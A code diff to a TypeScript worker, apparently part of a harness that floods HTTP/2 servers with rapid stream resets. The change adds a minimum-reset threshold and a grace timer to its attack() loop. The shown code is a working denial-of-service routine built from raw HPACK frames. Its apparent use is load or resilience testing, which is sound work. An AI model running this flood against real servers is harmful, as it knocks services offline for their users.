@@ -10,6 +10,8 @@ export interface ResetTask {
   readonly keyFile: string;
   readonly connections: number;
   readonly seconds: number;
+  /** It goes on for longer until there were so many. Default: 0. */
+  readonly resetsMin?: number;
   readonly path: string;
 }
 
@@ -30,7 +32,10 @@ const [ca, cert, key] = [task.caFile, task.certFile, task.keyFile].map((file) =>
 const path = Buffer.from(task.path);
 const block = Buffer.concat([Buffer.of(0x82, 0x87, 0x01, 1), Buffer.from('x'), Buffer.of(0x04, path.length), path]);
 const endsAt = performance.now() + task.seconds * 1000;
+/** A connection of the time afterwards. */
+const furtherMs = 500;
 let [resets, sentAway, closed] = [0, 0, 0];
+const isOver = (): boolean => performance.now() >= endsAt && resets >= (task.resetsMin ?? 0);
 
 /** One connection, until the server ends it or the time is over. */
 function attack(port: number): Promise<void> {
@@ -39,7 +44,7 @@ function attack(port: number): Promise<void> {
     let stream = 1;
     const more = (): void => {
       for (;;) {
-        if (performance.now() >= endsAt || stream > streamIdsMax - 2 * streamsEach) {
+        if (isOver() || stream > streamIdsMax - 2 * streamsEach) {
           socket.destroy();
           return;
         }
@@ -73,7 +78,7 @@ function attack(port: number): Promise<void> {
       () => {
         socket.destroy();
       },
-      Math.max(0, endsAt - performance.now()),
+      Math.max(furtherMs, endsAt - performance.now()),
     ).unref();
   });
 }
@@ -91,7 +96,7 @@ function framesIn(bytes: Buffer): { readonly away: boolean; readonly end: number
 process.send?.('open');
 await Promise.all(
   Array.from({ length: task.connections }, async (_, each) => {
-    while (performance.now() < endsAt) {
+    while (!isOver()) {
       await attack(task.ports[each % task.ports.length] as number);
       if (performance.now() < endsAt) closed += 1;
     }
